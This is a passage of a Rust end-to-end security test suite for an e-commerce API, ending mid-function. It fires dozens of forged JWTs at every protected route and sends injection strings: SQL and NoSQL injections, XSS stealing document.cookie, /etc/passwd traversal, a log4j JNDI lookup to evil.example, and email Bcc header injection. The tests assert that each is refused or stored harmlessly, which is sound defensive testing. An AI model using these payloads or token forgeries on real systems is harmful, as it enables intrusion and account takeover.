//! Attacks over HTTP: forged and broken tokens on every protected route,
//! account enumeration, throttling, injection-shaped text, oversized requests,
//! customers on admin routes, forged cursors and other users' ids.

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD as B64;
use e2e::*;
use futures::StreamExt;
use serde_json::{Value, json};
use std::collections::BTreeSet;

/// A well-formed id nothing has.
const NO_SUCH_ID: &str = "01KDVDNA0000000000000NOPE0";

/// Every route that needs a token, with a body where it takes one.
fn protected_routes() -> Vec<(&'static str, String, Option<Value>)> {
    let order = order_request(json!([{"product_id": NO_SUCH_ID, "quantity": 1}]));
    let product =
        json!({"name": "x", "price_cents": 1, "currency": "USD", "stock": 1, "category": "x"});
    let note =
        json!({"channel": "email", "recipient": "a@example.com", "subject": "s", "message": "m"});
    vec![
        ("GET", "/users/me".into(), None),
        ("POST", "/users/logout".into(), Some(json!({"all": true}))),
        ("GET", "/users/me/addresses".into(), None),
        (
            "POST",
            "/users/me/addresses".into(),
            Some(
                json!({"name": "a", "line1": "b", "city": "c", "postal_code": "1", "country": "US"}),
            ),
        ),
        (
            "PATCH",
            format!("/users/me/addresses/{NO_SUCH_ID}"),
            Some(json!({"name": "a"})),
        ),
        ("DELETE", format!("/users/me/addresses/{NO_SUCH_ID}"), None),
        (
            "POST",
            "/users/me/password".into(),
            Some(json!({"current_password": "x", "new_password": "a new fine passphrase"})),
        ),
        ("GET", "/orders".into(), None),
        ("POST", "/orders".into(), Some(order)),
        ("GET", format!("/orders/{NO_SUCH_ID}"), None),
        ("POST", format!("/orders/{NO_SUCH_ID}/cancel"), None),
        (
            "POST",
            "/payments".into(),
            Some(json!({"order_id": NO_SUCH_ID, "payment_method": "pm_card_visa"})),
        ),
        ("GET", format!("/payments/{NO_SUCH_ID}"), None),
        ("GET", "/notifications".into(), None),
        ("GET", format!("/notifications/{NO_SUCH_ID}"), None),
        ("POST", "/notifications".into(), Some(note)),
        ("POST", "/products".into(), Some(product)),
        (
            "PATCH",
            format!("/products/{NO_SUCH_ID}"),
            Some(json!({"stock_delta": 1})),
        ),
        ("DELETE", format!("/products/{NO_SUCH_ID}"), None),
    ]
}

fn payload_of(token: &str) -> Value {
    let part = token.split('.').nth(1).expect("a JWT");
    serde_json::from_slice(&B64.decode(part).expect("base64url")).expect("JSON claims")
}

fn encode(value: &Value) -> String {
    B64.encode(value.to_string())
}

/// Every `Authorization` value an attacker might send instead of a valid token.
fn attacks(good: &str, user_id: &str) -> Vec<(&'static str, Option<Vec<u8>>)> {
    let current = key("current");
    let header = json!({"alg": "EdDSA", "typ": "JWT", "kid": current.kid});
    let now = now();
    let valid = claims(user_id, now);
    let with = |field: &str, value: Value| {
        let mut c = valid.clone();
        c[field] = value;
        c
    };
    let without = |field: &str| {
        let mut c = valid.clone();
        c.as_object_mut().unwrap().remove(field);
        c
    };
    let signed = |claims: &Value| sign(&header, claims, &current);
    let jwks: Value = serde_json::from_str(
        &std::fs::read_to_string(format!(
            "{}/jwks.json",
            std::env::var("FERROCART_KEYS_DIR").expect("make test sets FERROCART_KEYS_DIR")
        ))
        .expect("the public key set"),
    )
    .expect("JSON");
    let jwk = jwks["keys"]
        .as_array()
        .unwrap()
        .iter()
        .find(|k| k["kid"] == current.kid.as_str())
        .expect("the current key is in the set")
        .clone();
    let raw_public_key = B64.decode(jwk["x"].as_str().unwrap()).unwrap();
    let hs256 = |secret: &[u8]| {
        jsonwebtoken::encode(
            &jsonwebtoken::Header {
                kid: Some(current.kid.clone()),
                ..jsonwebtoken::Header::new(jsonwebtoken::Algorithm::HS256)
            },
            &valid,
            &jsonwebtoken::EncodingKey::from_secret(secret),
        )
        .unwrap()
    };
    let unsigned = |alg: &str| {
        format!(
            "{}.{}.",
            encode(&json!({"alg": alg, "typ": "JWT", "kid": current.kid})),
            encode(&valid)
        )
    };
    let parts: Vec<&str> = good.split('.').collect();
    let mut admin_payload = payload_of(good);
    admin_payload["role"] = "admin".into();
    let mut later_payload = payload_of(good);
    later_payload["exp"] = (now + 86_400 * 365).into();
    let (attacker, attacker_jwk) =
        shared::auth::token::generate_key_pair(&current.kid).expect("a key pair");
    let (stranger, stranger_jwk) =
        shared::auth::token::generate_key_pair("attacker").expect("a key pair");
    let other_token = {
        let mut c = valid.clone();
        c["sub"] = "01KDVDNA000000000000OTHER0".into();
        signed(&c)
    };
    let other_signature = other_token.rsplit('.').next().unwrap();

    let bearer = |token: String| Some(format!("Bearer {token}").into_bytes());
    vec![
        ("alg none", bearer(unsigned("none"))),
        ("alg None", bearer(unsigned("None"))),
        ("alg NONE", bearer(unsigned("NONE"))),
        (
            "alg none without kid",
            bearer(format!(
                "{}.{}.",
                encode(&json!({"alg": "none"})),
                encode(&valid)
            )),
        ),
        (
            "HS256 keyed with the raw public key",
            bearer(hs256(&raw_public_key)),
        ),
        (
            "HS256 keyed with the public JWK's x",
            bearer(hs256(jwk["x"].as_str().unwrap().as_bytes())),
        ),
        (
            "HS256 keyed with the public key set",
            bearer(hs256(jwks.to_string().as_bytes())),
        ),
        (
            "RS256 header over an EdDSA signature",
            bearer(sign(
                &json!({"alg": "RS256", "kid": current.kid}),
                &valid,
                &current,
            )),
        ),
        ("expired", bearer(signed(&with("exp", (now - 3600).into())))),
        (
            "expired a minute ago",
            bearer(signed(&with("exp", (now - 60).into()))),
        ),
        (
            "not yet valid (nbf)",
            bearer(signed(&with("nbf", (now + 600).into()))),
        ),
        (
            "issued in the future (iat)",
            bearer(signed(&with("iat", (now + 600).into()))),
        ),
        (
            "nbf and iat in the future",
            bearer(signed(&claims(user_id, now + 600))),
        ),
        (
            "wrong iss",
            bearer(signed(&with("iss", "https://evil.example".into()))),
        ),
        (
            "wrong aud",
            bearer(signed(&with("aud", "someone-else".into()))),
        ),
        (
            "aud list without ours",
            bearer(signed(&with("aud", json!(["someone-else"])))),
        ),
        ("no exp", bearer(signed(&without("exp")))),
        ("no nbf", bearer(signed(&without("nbf")))),
        ("no iss", bearer(signed(&without("iss")))),
        ("no aud", bearer(signed(&without("aud")))),
        ("no sub", bearer(signed(&without("sub")))),
        (
            "sub not a user id",
            bearer(signed(&with("sub", "admin".into()))),
        ),
        ("unknown role", bearer(signed(&with("role", "root".into())))),
        (
            "unknown kid",
            bearer(sign(
                &json!({"alg": "EdDSA", "kid": "no-such-kid"}),
                &valid,
                &current,
            )),
        ),
        (
            "no kid",
            bearer(sign(&json!({"alg": "EdDSA"}), &valid, &current)),
        ),
        (
            "kid as a path",
            bearer(sign(
                &json!({"alg": "EdDSA", "kid": "../../../../dev/null"}),
                &valid,
                &current,
            )),
        ),
        (
            "tampered payload (role admin), original signature",
            bearer(format!(
                "{}.{}.{}",
                parts[0],
                encode(&admin_payload),
                parts[2]
            )),
        ),
        (
            "tampered payload (exp a year on), original signature",
            bearer(format!(
                "{}.{}.{}",
                parts[0],
                encode(&later_payload),
                parts[2]
            )),
        ),
        (
            "tampered header (kid next), original signature",
            bearer(format!(
                "{}.{}.{}",
                encode(&json!({"alg": "EdDSA", "typ": "JWT", "kid": key("next").kid})),
                parts[1],
                parts[2]
            )),
        ),
        (
            "another token's signature",
            bearer(format!("{}.{}.{other_signature}", parts[0], parts[1])),
        ),
        (
            "signature stripped",
            bearer(format!("{}.{}.", parts[0], parts[1])),
        ),
        ("two parts", bearer(format!("{}.{}", parts[0], parts[1]))),
        (
            "another Ed25519 key with the same kid",
            bearer(sign(&header, &valid, &attacker)),
        ),
        (
            "an embedded jwk of the signer's own key",
            bearer(sign(
                &json!({"alg": "EdDSA", "kid": current.kid, "jwk": attacker_jwk}),
                &valid,
                &attacker,
            )),
        ),
        (
            "an embedded jwk with its own kid",
            bearer(sign(
                &json!({"alg": "EdDSA", "kid": "attacker", "jwk": stranger_jwk}),
                &valid,
                &stranger,
            )),
        ),
        ("garbage", bearer("garbage".into())),
        ("three empty parts", bearer("..".into())),
        ("base64 junk", bearer("AAAA.BBBB.CCCC".into())),
        ("no header", None),
        ("empty header", Some(Vec::new())),
        ("Bearer alone", Some(b"Bearer".to_vec())),
        ("Bearer and a space", Some(b"Bearer ".to_vec())),
        ("the token without a scheme", Some(good.as_bytes().to_vec())),
        ("Basic scheme", Some(format!("Basic {good}").into_bytes())),
        ("Token scheme", Some(format!("Token {good}").into_bytes())),
        ("two tokens", bearer(format!("{good} {good}"))),
        ("8 KiB token", bearer("A".repeat(8 * 1024))),
        ("Bearer twice", bearer(format!("Bearer {good}"))),
        (
            "a UTF-8 token",
            Some([b"Bearer ".as_slice(), "\u{e9}".repeat(8).as_bytes()].concat()),
        ),
        // Bytes that are not UTF-8 make cargo lambda watch itself answer 500
        // before any function runs; `shared::http::auth` refuses them (unit test).
    ]
}

#[tokio::test]
async fn every_jwt_attack_on_every_protected_route_is_a_401_problem() {
    let (name, user) = register().await;
    let good = login(&name).await;
    let attacks = attacks(&good, user["id"].as_str().unwrap());
    let routes = protected_routes();
    let requests = routes.iter().flat_map(|(method, path, body)| {
        attacks.iter().map(move |(what, authorization)| async move {
            let mut request = client().request(method.parse().unwrap(), format!("{}{path}", api()));
            if let Some(value) = authorization {
                request = request.header(
                    "authorization",
                    reqwest::header::HeaderValue::from_bytes(value).unwrap(),
                );
            }
            if let Some(body) = body {
                request = request.header("idempotency-key", unique("k-")).json(body);
            }
            (format!("{what}: {method} {path}"), send(request).await)
        })
    });
    let answers: Vec<(String, Answer)> = futures::stream::iter(requests)
        .buffer_unordered(24)
        .collect()
        .await;
    assert_eq!(answers.len(), attacks.len() * routes.len());
    let mut bodies = BTreeSet::new();
    let mut wrong = Vec::new();
    for (what, answer) in &answers {
        if answer.status != 401 || answer.header("www-authenticate") != Some("Bearer") {
            wrong.push(format!("{what}: {} {}", answer.status, answer.text));
            continue;
        }
        assert_eq!(answer.code(), "unauthorized", "{what}");
        bodies.insert(answer.text.clone());
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    // Why a token was refused is logged, never told.
    assert_eq!(bodies.len(), 1, "{bodies:?}");
    println!(
        "{} attacks x {} routes = {} refused requests",
        attacks.len(),
        routes.len(),
        answers.len()
    );

    // The genuine token still works, with any case of the scheme.
    assert_eq!(get("/users/me", Some(&good)).await.status, 200);
    let lower = send(
        client()
            .get(format!("{}/users/me", api()))
            .header("authorization", format!("bearer {good}")),
    )
    .await;
    assert_eq!(lower.status, 200, "{}", lower.text);
}

#[tokio::test]
async fn a_token_signed_by_the_rotated_in_key_is_accepted() {
    let (_, user) = register().await;
    let next = key("next");
    let token = sign(
        &json!({"alg": "EdDSA", "typ": "JWT", "kid": next.kid}),
        &claims(user["id"].as_str().unwrap(), now()),
        &next,
    );
    let answer = get("/users/me", Some(&token)).await;
    assert_eq!(answer.status, 200, "{}", answer.text);
    assert_eq!(answer.body, user);
}

/// The headers a client could compare, without the per-request ones.
fn comparable_headers(answer: &Answer) -> Vec<(String, String)> {
    let mut headers: Vec<(String, String)> = answer
        .headers
        .iter()
        .filter(|(name, _)| !["x-request-id", "date"].contains(&name.as_str()))
        .map(|(name, value)| {
            (
                name.to_string(),
                value.to_str().unwrap_or_default().to_owned(),
            )
        })
        .collect();
    headers.sort();
    headers
}

#[tokio::test]
async fn login_does_not_tell_unknown_accounts_from_wrong_passwords() {
    let (name, user) = register().await;
    let email = user["email"].as_str().unwrap();
    let wrong = "not the password at all";
    let attempts = [
        json!({"username": name, "password": wrong}),
        json!({"username": unique("ghost"), "password": wrong}),
        json!({"email": email, "password": wrong}),
        json!({"email": format!("{}@example.com", unique("ghost")), "password": wrong}),
        json!({"username": name.to_uppercase(), "password": PASSWORD.to_uppercase()}),
        json!({"username": unique("ghost"), "password": PASSWORD}),
    ];
    let answers = futures::future::join_all(attempts.iter().map(|b| post("/users/login", b))).await;
    let first = &answers[0];
    assert_eq!((first.status, first.code()), (401, "invalid_credentials"));
    for (attempt, answer) in attempts.iter().zip(&answers) {
        assert_eq!(answer.status, first.status, "{attempt}");
        assert_eq!(answer.text, first.text, "{attempt}");
        assert_eq!(
            comparable_headers(answer),
            comparable_headers(first),
            "{attempt}"
        );
    }
    // The dummy-hash path itself (an unknown name still runs one Argon2
    // verification) is proven in shared/tests/users.rs, where it is observable.
}

#[tokio::test]
async fn five_failures_then_429_with_retry_after_even_for_the_right_password() {
    // The test stack's back-off starts at 2 s instead of 30 s.
    // The source address is the connection's, as the gateway saw it: forwarding
    // headers an attacker sets do not make each failure come from a new address.
    let (name, _) = register().await;
    for i in 0..5 {
        let answer = send(
            client()
                .post(format!("{}/users/login", api()))
                .header("x-forwarded-for", format!("198.51.100.{i}"))
                .header("x-real-ip", format!("198.51.100.{i}"))
                .header("forwarded", format!("for=198.51.100.{i}"))
                .json(&json!({"username": name, "password": "wrong password"})),
        )
        .await;
        assert_eq!(answer.status, 401, "{}", answer.text);
    }
    let refused = post(
        "/users/login",
        &json!({"username": name.to_uppercase(), "password": PASSWORD}),
    )
    .await;
    assert_eq!((refused.status, refused.code()), (429, "too_many_attempts"));
    let retry_after: u64 = refused
        .header("retry-after")
        .and_then(|v| v.parse().ok())
        .expect("Retry-After");
    assert!((1..=2).contains(&retry_after), "{retry_after}");

    tokio::time::sleep(std::time::Duration::from_secs(retry_after + 1)).await;
    let answer = post(
        "/users/login",
        &json!({"username": name, "password": PASSWORD}),
    )
    .await;
    assert_eq!(answer.status, 200, "{}", answer.text);
}

/// Text shaped like attacks on SQL, NoSQL, DynamoDB expressions, HTML, paths,
/// template engines and log4j, and Unicode that hides or reorders text.
fn injections() -> Vec<&'static str> {
    vec![
        "' OR '1'='1' --",
        "\"; DROP TABLE users; --",
        "1; SELECT * FROM products WHERE 1=1",
        "{\"$gt\": \"\"}",
        "{\"$ne\": null, \"$where\": \"sleep(1000)\"}",
        "#a = :b",
        "attribute_exists(pk) OR #stock > :zero",
        "SET stock = :v REMOVE archived_at",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(document.cookie)>",
        "\"><svg/onload=alert(1)>",
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}} ${7*7} <%= 7*7 %>",
        "%s%s%s%n%x",
        "\u{202E}gpj.exe",
        "zero\u{200B}width\u{200D}join\u{FEFF}bom\u{2060}",
        "e\u{301}\u{301}\u{301} 😀👍🏽 𝕏",
        "NUL\u{0}byte",
        "control \u{1}\u{7}\u{1b}[31m chars",
        "back\\slash \\u0000 \"quoted\"",
        "null",
        "[]",
        "  padded  ",
    ]
}

/// Text the contract's category rule (`[a-z0-9-]`, 1–50) happens to allow.
fn is_category(text: &str) -> bool {
    (1..=50).contains(&text.len())
        && text
            .bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
}

#[tokio::test]
async fn injection_shaped_product_text_is_stored_and_returned_verbatim() {
    let admin = admin_token().await;
    let (buyer, _) = customer().await;
    let category = unique("inj-");
    let texts = injections();
    let created: Vec<(String, &str)> = futures::stream::iter(texts.iter().map(|text| {
        let (admin, category) = (admin.clone(), category.clone());
        async move {
            let body = json!({"name": text, "description": format!("{text}\n{text}"), "price_cents": 100, "currency": "USD", "stock": 5, "category": category});
            let answer = call("POST", "/products", Some(&admin), Some(&body)).await;
            assert_eq!(answer.status, 201, "{text:?}: {}", answer.text);
            assert_eq!(answer.body["name"], *text);
            (answer.body["id"].as_str().unwrap().to_owned(), *text)
        }
    }))
    .buffer_unordered(8)
    .collect()
    .await;
    for (id, text) in &created {
        let read = get(&format!("/products/{id}"), None).await;
        assert_eq!(read.body["name"], *text);
        assert_eq!(read.body["description"], format!("{text}\n{text}"));
    }
    let listed = get(&format!("/products?category={category}&limit=100"), None).await;
    let names: BTreeSet<&str> = listed.body["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, texts.iter().copied().collect());

    // A PATCH stores them verbatim too, and an order copies the names as they are.
    let (first_id, _) = &created[0];
    for text in &texts {
        let patched = call(
            "PATCH",
            &format!("/products/{first_id}"),
            Some(&admin),
            Some(&json!({"name": text, "description": text})),
        )
        .await;
        assert_eq!(patched.status, 200, "{text:?}: {}", patched.text);
        assert_eq!(
            (&patched.body["name"], &patched.body["description"]),
            (&json!(text), &json!(text))
        );
    }
    let lines: Vec<Value> = created[1..]
        .iter()
        .take(25)
        .map(|(id, _)| json!({"product_id": id, "quantity": 1}))
        .collect();
    let order = call(
        "POST",
        "/orders",
        Some(&buyer),
        Some(&order_request(json!(lines))),
    )
    .await;
    assert_eq!(order.status, 201, "{}", order.text);
    let sent: std::collections::BTreeMap<&str, &str> = created
        .iter()
        .map(|(id, text)| (id.as_str(), *text))
        .collect();
    for line in order.body["items"].as_array().unwrap() {
        assert_eq!(line["name"], sent[line["product_id"].as_str().unwrap()]);
    }

    // Where the contract limits the characters, the same text is a 422 naming the field.
    for text in texts.iter().filter(|t| !is_category(t)) {
        let body = json!({"name": "ok", "price_cents": 100, "currency": "USD", "stock": 1, "category": text});
        let answer = call("POST", "/products", Some(&admin), Some(&body)).await;
        assert_eq!(
            (answer.status, answer.code()),
            (422, "validation_failed"),
            "{text:?}"
        );
        assert_eq!(answer.body["errors"][0]["field"], "category");
        let answer = call(
            "POST",
            "/products",
            Some(&admin),
            Some(&json!({"name": "ok", "price_cents": 100, "currency": text, "stock": 1, "category": "ok"})),
        )
        .await;
        assert_eq!(answer.status, 422, "{text:?}");
        assert_eq!(answer.body["errors"][0]["field"], "currency");
    }
}

#[tokio::test]
async fn injection_shaped_user_fields_are_refused_or_kept_verbatim() {
    // Usernames allow 3–32 of [A-Za-z0-9_.-] only: the rest is a 422 naming the field.
    let is_username = |t: &str| {
        (3..=32).contains(&t.len())
            && t.bytes()
                .all(|b| b.is_ascii_alphanumeric() || b"_.-".contains(&b))
    };
    for text in injections().into_iter().filter(|t| !is_username(t)) {
        let answer = post(
            "/users/register",
            &json!({"username": text, "email": format!("{}@example.com", unique("u")), "password": PASSWORD}),
        )
        .await;
        assert_eq!(
            (answer.status, answer.code()),
            (422, "validation_failed"),
            "{text:?}"
        );
        assert_eq!(answer.body["errors"][0]["field"], "username", "{text:?}");
    }
    // Addresses may hold some of these characters; they are kept as sent, and
    // found again ignoring case. Others are not addresses at all.
    for shape in [
        "{u}'or'1'='1",
        "{u}+{$gt}",
        "{u}#a=b",
        "{u}${jndi}",
        "{u}/etc/passwd",
        "{u}%00",
    ] {
        let email = format!("{}@example.com", shape.replace("{u}", &unique("i")));
        let name = unique("inj");
        // Passwords take any text: the same shapes, with a NUL.
        let password = format!("{email} \u{0} ' OR 1=1 -- {{\"$gt\":\"\"}}");
        let answer = post(
            "/users/register",
            &json!({"username": name, "email": email, "password": password}),
        )
        .await;
        assert_eq!(answer.status, 201, "{email}: {}", answer.text);
        assert_eq!(answer.body["email"], email);
        let token = post(
            "/users/login",
            &json!({"email": email.to_uppercase(), "password": password}),
        )
        .await;
        assert_eq!(token.status, 200, "{email}: {}", token.text);
        let me = get("/users/me", token.body["access_token"].as_str()).await;
        assert_eq!(me.body["email"], email);
    }
    for email in [
        "<script>@example.com",
        "a@example.com' OR '1'='1",
        "a\u{0}@example.com",
        "a@example.com\r\nBcc: victim@example.com",
        "\u{202E}a@example.com",
        "../../etc/passwd",
    ] {
        let answer = post(
            "/users/register",
            &json!({"username": unique("e"), "email": email, "password": PASSWORD}),
        )
        .await;
        assert_eq!(
            (answer.status, answer.code()),
            (422, "validation_failed"),
            "{email:?}"
        );
        assert_eq!(answer.body["errors"][0]["field"], "email", "{email:?}");
    }
}

#[tokio::test]
async fn injection_shaped_notification_text_is_sent_verbatim() {
    let admin = admin_token().await;
    let one_line: Vec<&str> = injections()
        .into_iter()
        .filter(|t| !t.contains(['\r', '\n']))
        .collect();
    let queued: Vec<(String, String, &str)> = futures::stream::iter(one_line.iter().map(|text| {
        let admin = admin.clone();
        async move {
            let recipient = format!("{}@example.com", unique("inj"));
            let answer = call(
                "POST",
                "/notifications",
                Some(&admin),
                Some(&json!({"channel": "email", "recipient": recipient, "subject": text, "message": format!("{text}\n{text}")})),
            )
            .await;
            assert_eq!(answer.status, 202, "{text:?}: {}", answer.text);
            (answer.body["id"].as_str().unwrap().to_owned(), recipient, *text)
        }
    }))
    .buffer_unordered(8)
    .collect()
    .await;
    for (id, recipient, text) in &queued {
        let mails = wait_for_mails(recipient, 1).await;
        assert_eq!(mails.len(), 1, "{text:?}");
        assert_eq!(mails[0]["subject"], *text);
        assert_eq!(mails[0]["body"], format!("{text}\n{text}"));
        let read = get(&format!("/notifications/{id}"), Some(&admin)).await;
        assert_eq!(read.body["subject"], *text);
    }
    // A subject is one line: a header injection is a 422, not a second header.
    let answer = call(
        "POST",
        "/notifications",
        Some(&admin),
        Some(&json!({"channel": "email", "recipient": "a@example.com", "subject": "hi\r\nBcc: victim@example.com", "message": "m"})),
    )
    .await;
    assert_eq!((answer.status, answer.code()), (422, "validation_failed"));
    assert_eq!(answer.body["errors"][0]["field"], "subject");
}

#[tokio::test]
async fn injection_shaped_ids_queries_and_headers_are_clean_refusals() {
    let (token, _) = customer().await;
    for text in injections() {
        let id = urlencode(text);
        for (path, code) in [
            (format!("/products/{id}"), "product_not_found"),
            (format!("/orders/{id}"), "order_not_found"),
            (format!("/payments/{id}"), "payment_not_found"),
            (format!("/notifications/{id}"), "notification_not_found"),
        ] {
            let answer = get(&path, Some(&token)).await;
            assert_eq!((answer.status, answer.code()), (404, code), "{path}");
        }
        let answer = get(&format!("/products?category={id}"), None).await;
        if is_category(text) {
            assert_eq!(answer.status, 200, "{text:?}");
        } else {
            assert_eq!(
                (answer.status, answer.code()),
                (422, "validation_failed"),
                "{text:?}"
            );
        }
        let answer = get(&format!("/orders?limit={id}"), Some(&token)).await;
        assert_eq!(
            (answer.status, answer.code()),
            (422, "validation_failed"),
            "{text:?}"
        );
        for list in ["/products", "/orders", "/notifications"] {
            let answer = get(&format!("{list}?cursor={id}"), Some(&token)).await;
            assert_eq!(
                (answer.status, answer.code()),
                (400, "invalid_cursor"),
                "{list} {text:?}"
            );
        }
        let answer = call(
            "POST",
            "/orders",
            Some(&token),
            Some(&order_request(json!([{"product_id": text, "quantity": 1}]))),
        )
        .await;
        assert_eq!(
            (answer.status, answer.code()),
            (422, "unknown_product"),
            "{text:?}"
        );
        let answer = pay(&token, text, "pm_card_visa", None).await;
        assert_eq!(
            (answer.status, answer.code()),
            (404, "order_not_found"),
            "{text:?}"
        );
        let answer = pay(&token, NO_SUCH_ID, text, None).await;
        assert_eq!(
            (answer.status, answer.code()),
            (422, "validation_failed"),
            "{text:?}"
        );
    }
    // Idempotency keys are visible ASCII: anything else is a 422, never a stored key.
    for key in ["' OR '1'='1", "#a = :b", "tab\tkey", &"k".repeat(10_000)] {
        let answer = pay(&token, NO_SUCH_ID, "pm_card_visa", Some(key)).await;
        assert_eq!(
            (answer.status, answer.code()),
            (422, "validation_failed"),
            "{key:?}"
        );
        assert_eq!(answer.body["errors"][0]["field"], "Idempotency-Key");
    }
    // A lone surrogate is not JSON text at all.
    let answer = send(
        client()
            .post(format!("{}/users/register", api()))
            .header("content-type", "application/json")
            .body(r#"{"username": "\ud800", "email": "a@example.com", "password": "x"}"#),
    )
    .await;
    assert_eq!((answer.status, answer.code()), (400, "malformed_json"));
}

#[tokio::test]
async fn bodies_over_64_kib_are_413_on_every_route() {
    let admin = admin_token().await;
    let over = format!(
        "{{\"padding\":\"{}\"}}",
        "x".repeat(MAX_BODY - "{\"padding\":\"\"}".len() + 1)
    );
    assert_eq!(over.len(), MAX_BODY + 1);
    let huge = format!("{{\"padding\":\"{}\"}}", "x".repeat(1024 * 1024));
    let routes = [
        ("POST", "/users/register".to_owned()),
        ("POST", "/users/login".into()),
        ("GET", "/users/me".into()),
        ("POST", "/users/me/password".into()),
        ("POST", "/users/me/addresses".into()),
        ("PATCH", format!("/users/me/addresses/{NO_SUCH_ID}")),
        ("GET", "/products".into()),
        ("POST", "/products".into()),
        ("PATCH", format!("/products/{NO_SUCH_ID}")),
        ("DELETE", format!("/products/{NO_SUCH_ID}")),
        ("GET", "/orders".into()),
        ("POST", "/orders".into()),
        ("GET", format!("/orders/{NO_SUCH_ID}")),
        ("POST", format!("/orders/{NO_SUCH_ID}/cancel")),
        ("POST", "/payments".into()),
        ("GET", format!("/payments/{NO_SUCH_ID}")),
        ("GET", "/notifications".into()),
        ("POST", "/notifications".into()),
        ("GET", format!("/notifications/{NO_SUCH_ID}")),
    ];
    for (method, path) in &routes {
        for body in [&over, &huge] {
            let answer = send(
                client()
                    .request(method.parse().unwrap(), format!("{}{path}", api()))
                    .bearer_auth(&admin)
                    .header("idempotency-key", unique("k-"))
                    .header("content-type", "application/json")
                    .body(body.clone()),
            )
            .await;
            assert_eq!(
                (answer.status, answer.code()),
                (413, "payload_too_large"),
                "{method} {path} with {} bytes",
                body.len()
            );
        }
    }
    // Exactly 64 KiB is still read: the padding is an unknown field.
    let exact = format!(
        "{{\"padding\":\"{}\"}}",
        "x".repeat(MAX_BODY - "{\"padding\":\"\"}".len())
    );
    assert_eq!(exact.len(), MAX_BODY);
    let answer = send(
        client()
            .post(format!("{}/users/register", api()))
            .header("content-type", "application/json")
            .body(exact),
    )
    .await;
    assert_eq!((answer.status, answer.code()), (422, "validation_failed"));
}

const MAX_BODY: usize = 64 * 1024;

#[tokio::test]
async fn oversized_headers_are_refused_without_a_server_error() {
    let (token, _) = customer().await;
    // Large but within what a gateway forwards: the functions answer as usual.
    let big_header = "v".repeat(8 * 1024);
    let answer = send(
        client()
            .get(format!("{}/users/me", api()))
            .bearer_auth(&token)
            .header("x-padding", &big_header),
    )
    .await;
    assert_eq!(answer.status, 200, "{}", answer.text);
    let answer = send(
        client()
            .post(format!("{}/payments", api()))
            .bearer_auth(&token)
            .header("idempotency-key", "k".repeat(8 * 1024))
            .json(&json!({"order_id": NO_SUCH_ID, "payment_method": "pm_card_visa"})),
    )
    .await;
    assert_eq!(
        (answer.status, answer.code()),
        (422, "validation_failed"),
        "{}",
        answer.text
    );
    // Far past any gateway's limit: refused before any function runs, never a 5xx.
    let response = client()
        .get(format!("{}/users/me", api()))
        .bearer_auth(&token)
        .header("x-padding", "v".repeat(1024 * 1024))
        .send()
        .await;
    if let Ok(response) = response {
        let status = response.status().as_u16();
        assert!((400..500).contains(&status), "{status}");
    }
    // And the stack still answers.
    assert_eq!(get("/users/me", Some(&token)).await.status, 200);
}

#[tokio::test]
async fn customers_get_403_on_every_admin_route_and_change_nothing() {
    let admin = admin_token().await;
    let (customer, _) = customer().await;
    let product = new_product(&admin, 3, 1250).await;
    let before = get(&format!("/products/{product}"), None).await;
    let path = format!("/products/{product}");
    let valid_product = json!({"name": "Teapot", "price_cents": 100, "currency": "USD", "stock": 1, "category": "kitchen"});
    let note = json!({"channel": "email", "recipient": format!("{}@example.com", unique("n")), "subject": "Hello", "message": "Hi"});
    let cases = [
        ("POST", "/products".to_owned(), Some(valid_product)),
        ("POST", "/products".into(), Some(json!({"name": ""}))),
        ("POST", "/products".into(), None),
        ("PATCH", path.clone(), Some(json!({"stock_delta": 100}))),
        ("PATCH", path.clone(), Some(json!({"name": "Mine now"}))),
        ("PATCH", path.clone(), Some(json!({"nonsense": true}))),
        (
            "PATCH",
            format!("/products/{NO_SUCH_ID}"),
            Some(json!({"stock_delta": 1})),
        ),
        ("DELETE", path.clone(), None),
        ("DELETE", format!("/products/{NO_SUCH_ID}"), None),
        ("POST", "/notifications".into(), Some(note.clone())),
        ("POST", "/notifications".into(), Some(json!({}))),
    ];
    for (method, path, body) in &cases {
        let answer = call(method, path, Some(&customer), body.as_ref()).await;
        assert_eq!(
            (answer.status, answer.code()),
            (403, "forbidden"),
            "{method} {path}"
        );
        let anonymous = call(method, path, None, body.as_ref()).await;
        assert_eq!(
            (anonymous.status, anonymous.code()),
            (401, "unauthorized"),
            "{method} {path}"
        );
    }
    let after = get(&format!("/products/{product}"), None).await;
    assert_eq!(after.body, before.body, "the product did not change");
    assert_eq!(after.header("etag"), before.header("etag"));

    // The same routes work for the admin, so the 403s were about the role.
    let created = call(
        "POST",
        "/products",
        Some(&admin),
        Some(&cases[0].2.clone().unwrap()),
    )
    .await;
    assert_eq!(created.status, 201, "{}", created.text);
    let patched = call(
        "PATCH",
        &path,
        Some(&admin),
        Some(&json!({"stock_delta": 1})),
    )
    .await;
    assert_eq!(patched.status, 200, "{}", patched.text);
    let deleted = call("DELETE", &path, Some(&admin), None).await;
    assert_eq!(deleted.status, 204, "{}", deleted.text);
}

/// `GET path` page by page with `limit=1` until `pages` cursors are collected.
async fn cursors(path: &str, token: Option<&str>, pages: usize) -> Vec<String> {
    let mut found = Vec::new();
    let mut next: Option<String> = None;
    while found.len() < pages {
        let sep = if path.contains('?') { '&' } else { '?' };
        let mut url = format!("{path}{sep}limit=1");
        if let Some(c) = &next {
            url.push_str(&format!("&cursor={}", urlencode(c)));
        }
        let page = get(&url, token).await;
        assert_eq!(page.status, 200, "{url}: {}", page.text);
        let cursor = page.body["next_cursor"]
            .as_str()
            .unwrap_or_else(|| panic!("{url}: no further page"))
            .to_owned();
        found.push(cursor.clone());
        next = Some(cursor);
    }
    found
}

/// Cursors that were never handed out: random bytes, edits of a real one.
fn forgeries(real: &str) -> Vec<(String, String)> {
    let (payload, tag) = real.split_once('.').expect("payload.tag");
    let flip = |text: &str, at: usize| {
        let mut bytes = text.as_bytes().to_vec();
        bytes[at] = if bytes[at] == b'A' { b'B' } else { b'A' };
        String::from_utf8(bytes).unwrap()
    };
    let mut position: Value = serde_json::from_slice(&B64.decode(payload).unwrap()).unwrap();
    for (_, value) in position.as_object_mut().unwrap().iter_mut() {
